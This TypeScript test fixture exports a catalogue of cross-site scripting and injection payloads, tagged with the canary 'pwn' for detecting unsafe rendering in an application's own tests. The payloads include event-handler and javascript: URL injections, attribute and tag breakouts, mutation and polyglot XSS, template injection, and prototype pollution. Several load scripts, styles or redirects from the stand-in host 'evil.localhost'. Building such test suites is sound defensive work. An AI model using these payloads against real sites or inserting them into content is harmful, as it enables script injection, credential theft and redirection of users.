/** Words that would be a program on a page that took them for markup, code, an address or a name of its own. */

/** Stands in what they would do, so that what was made of them can be found. */
export const canary = 'pwn'

/** Who would like to hear of it: another origin, and yet this machine, because `*.localhost` asks no name server. */
const evil = '//evil.localhost/pwn'

/** What each tries, and the words. */
const kinds: Record<string, string> = {
  'a script': `<script>alert('pwn')</script>`,
  'a script from elsewhere': `<script src=${evil}.js></script>`,
  'an image that fails': `<img src=x onerror=alert('pwn')>`,
  'a drawing that loads': `<svg/onload=alert('pwn')>`,
  'a drawing that moves': `<svg><animate onbegin=alert('pwn') attributeName=x dur=1s>`,
  'a drawing with a script': `<svg><script href=data:,alert('pwn')></script></svg>`,
  'a formula that is a link': `<math><mtext href="javascript:alert('pwn')">pwn</mtext></math>`,
  'a frame with its document': `<iframe srcdoc="<script>parent.alert('pwn')</script>"></iframe>`,
  'a frame that is a script': `<iframe src="javascript:parent.alert('pwn')"></iframe>`,
  'an object that is a document': `<object data="data:text/html,<script>alert('pwn')</script>"></object>`,
  'a field that takes the focus': `<input autofocus onfocus=alert('pwn')>`,
  'details that open': `<details open ontoggle=alert('pwn')>`,
  'a body that loads': `<body onload=alert('pwn')>`,
  'an address that is a script': `javascript:alert('pwn')`,
  'the same in disguise': `java\tscript&colon;alert('pwn')`,
  'an address that is a document': `data:text/html,<script>alert('pwn')</script>`,
  'the end of an attribute in quotes': `" autofocus tabindex=1 onfocus="alert('pwn')" x="`,
  'the end of one in single quotes': `' autofocus tabindex=1 onfocus='alert("pwn")' x='`,
  'the end of one in none': 'x onmouseover=alert`pwn` y',
  'the end of a text area': `</textarea><script>alert('pwn')</script>`,
  'the end of a title': `</title><img src=x onerror=alert('pwn')>`,
  'the end of a script': `';alert('pwn')//</script><script>alert('pwn')</script>`,
  'the end of a comment': `--><img src=x onerror=alert('pwn')><!--`,
  'the end of a section of data': `<![CDATA[<script>alert('pwn')</script>]]>`,
  'markup that changes when it is parsed again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('pwn')&gt;">`,
  'markup for who runs no scripts': `<noscript><p title="</noscript><img src=x onerror=alert('pwn')>">`,
  'a script within a script': `<scr<script>ipt>alert('pwn')</scr</script>ipt>`,
  'a script as entities': `&lt;script&gt;alert(&#39;pwn&#39;)&lt;/script&gt;`,
  'a script for an address': `%3Cscript%3Ealert('pwn')%3C/script%3E`,
  'a style from elsewhere': `<style>@import '${evil}.css';</style>`,
  'a style of its own': `<p style="position:fixed;inset:0;background:url(${evil})">pwn</p>`,
  'a page that goes elsewhere': `<meta http-equiv=refresh content="0;url=${evil}">`,
  'another base and a form': `<base href=${evil}/><form action=${evil}><button>pwn</button></form>`,
  'a template of a framework': `{{constructor.constructor('alert("pwn")')()}}`,
  'a template of a language': `\${alert('pwn')}<%= alert('pwn') %>`,
  'a name with a null byte and no width': `<scr\0ipt>alert('pwn')</scr\0ipt><im\u200bg src=x onerror=alert('pwn')>`,
  'letters that look alike, from right to left': `\u202e＜img src=x onerror=alert＇pwn＇＞\u2066\u202d<b>pwn`,
  'whatever comes first': `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=alert('pwn') )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('pwn')//>\\x3e`,
  'more events in one': `pwn\nid: 9-pwn\n\nevent: stream.error\ndata: {"message":"pwn"}\n\ndata: pwn`,
  'a name that every object has': '__proto__',
}

export const payloads: readonly string[] = Object.values(kinds)

/** All of them at once, for where one page load each says no more. */
export const together: string = payloads.join(' ')

/** As a field of one line holds it. */
export const oneLine = (words: string): string => words.replaceAll('\n', '')

/** Those that a line of a stream or a header can hold: no line breaks, no null bytes, nothing beyond ASCII. */
export const printable: readonly string[] = payloads.filter((words) => /^[\t -~]*$/.test(words))
